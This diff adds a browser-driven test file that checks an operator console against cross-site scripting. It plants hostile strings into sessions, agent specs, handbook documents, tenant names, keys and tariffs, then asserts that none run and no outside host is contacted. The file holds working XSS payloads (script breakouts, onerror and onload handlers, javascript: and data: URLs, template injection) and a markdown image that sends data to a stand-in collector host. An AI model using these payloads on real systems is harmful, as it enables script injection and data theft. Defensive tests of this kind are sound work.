@@ -1,0 +1,143 @@
+import { describe, expect } from "bun:test";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { pages } from "../../src/console/pages.ts";
+import { daemonClient } from "../../src/contracts/daemon/client.ts";
+import { platformClient } from "../../src/contracts/platform/client.ts";
+import { browserMissing, openBrowser, visit } from "../support/browser.ts";
+import { settled } from "../support/console-page.ts";
+import { addressesOf } from "../support/console-pages.ts";
+import { type ConsoleWorld, operatorToken, startConsoleWorld } from "../support/console-world.ts";
+import { executableTest } from "../support/executable.ts";
+
+/** Each says so when a browser takes it for code: by a dialog, an error, or a mark on the window. */
+const scripts = [
+  "</script><script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<a href=javascript:alert(1)>x</a>",
+  "[a link](javascript:alert(1))",
+  "![a picture](https://collector.example/leak?it)",
+  "javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "{{constructor.constructor('alert(1)')()}}",
+  '"><style>*{display:none}</style>',
+  "'-alert(1)-'",
+];
+
+interface HostileString {
+  input: string;
+  expected: string;
+}
+
+const corpus = join(import.meta.dir, "../corpora/strings_hostile.json");
+
+/** What of the corpus a text may hold. */
+const strings = (JSON.parse(readFileSync(corpus, "utf8")).entries as HostileString[])
+  .map(({ input }) => input)
+  .filter(
+    (input) => input.trim() !== "" && !input.includes("\0") && input.isWellFormed() && input.length < 2000,
+  );
+
+const hostile = [...new Set([...scripts, ...strings])];
+
+describe("what comes from elsewhere", () => {
+  executableTest(
+    "runs nowhere, whatever page shows it, and no page fails over it",
+    async () => {
+      await using world = await startConsoleWorld();
+      await plant(world);
+      await using browser = await openBrowser();
+      await using opened = await visit(browser, await world.link());
+      const { page, complaints } = opened;
+      const asked: string[] = [];
+      page.on("request", (request) => asked.push(request.url()));
+      await settled(page);
+      for (const { address } of addressesOf(world.names)) {
+        await page.goto(new URL(address, page.url()).href);
+        await settled(page);
+        expect(await page.getByRole("heading", { name: "This page failed" }).count(), address).toBe(0);
+      }
+      const own = new URL(page.url()).host;
+      expect(asked.filter((url) => !url.startsWith("data:") && new URL(url).host !== own)).toEqual([]);
+      expect(complaints).toEqual([]);
+      expect(pages.length).toBeGreaterThan(40);
+    },
+    browserMissing,
+  );
+
+  executableTest(
+    "runs nowhere when it is typed into a field",
+    async () => {
+      await using world = await startConsoleWorld();
+      await using browser = await openBrowser();
+      await using opened = await visit(browser, await world.link());
+      const { page, complaints } = opened;
+      await settled(page);
+      for (const { address } of addressesOf(world.names)) {
+        await page.goto(new URL(address, page.url()).href);
+        await settled(page);
+        for (const field of await page
+          .locator("main input[type=text]:enabled, main textarea:enabled")
+          .all()) {
+          if (!(await field.isEditable())) continue;
+          for (const text of scripts.slice(0, 3)) await field.fill(text);
+          await field.press("Tab");
+        }
+      }
+      // Words of the service about what was typed are no complaint of the browser's.
+      expect(complaints.filter((text) => !text.startsWith("Failed to load resource"))).toEqual([]);
+    },
+    browserMissing,
+  );
+});
+
+/** Puts them wherever somebody may write: what is refused there has no way to a page. */
+async function plant({ server, names }: ConsoleWorld): Promise<void> {
+  const fetchNow = (request: Request) => fetch(request);
+  const daemon = daemonClient({ fetch: fetchNow, baseUrl: server.url });
+  const all = hostile.join("\n\n");
+  await daemon.run("support", { query: all, session_id: names.session, record: true });
+  for (const [at, text] of hostile.entries()) {
+    await daemon
+      .run("support", { query: text, session_id: sessionOf(text) ?? `s-${at}` })
+      .catch(() => undefined);
+  }
+  await daemon.createAgent(
+    JSON.stringify({
+      apiVersion: "platform/v1",
+      kind: "Agent",
+      metadata: { name: "hostile" },
+      spec: {
+        identity: { description: all },
+        model: { primary: { provider: "rehearsal", model: "<img src=x onerror=alert(1)>" } },
+        prompts: { system: "Hello" },
+      },
+    }),
+  );
+  await daemon.ragIngest({
+    collection: "handbook",
+    pipeline: "handbook",
+    documents: [{ id: "<img src=x onerror=alert(1)>", text: all, metadata: { title: all.slice(0, 500) } }],
+  });
+
+  const platform = { fetch: fetchNow, baseUrl: server.urlOf("platform") };
+  const { accessToken } = await platformClient(platform).login({
+    email: "ada@example.com",
+    password: "correct horse",
+  });
+  const ada = platformClient({ ...platform, accessToken, tenantId: names.tenant });
+  await ada.renameTenant(names.tenant, "<img src=x onerror=alert(1)>");
+  await ada.createKey(names.tenant, "</script><script>alert(1)</script>");
+  await ada.run("helper", { query: all, session_id: "<svg onload=alert(1)>" });
+  const operator = platformClient({ ...platform, operatorToken });
+  await operator.fileTariff({
+    provider: "<svg onload=alert(1)>",
+    model: "<img src=x onerror=alert(1)>",
+    credits_per_1k_in_micros: 1,
+    credits_per_1k_out_micros: 1,
+  });
+}
+
+const sessionOf = (text: string): string | undefined =>
+  /^[\x20-\x7e]{1,200}$/.test(text) ? text : undefined;
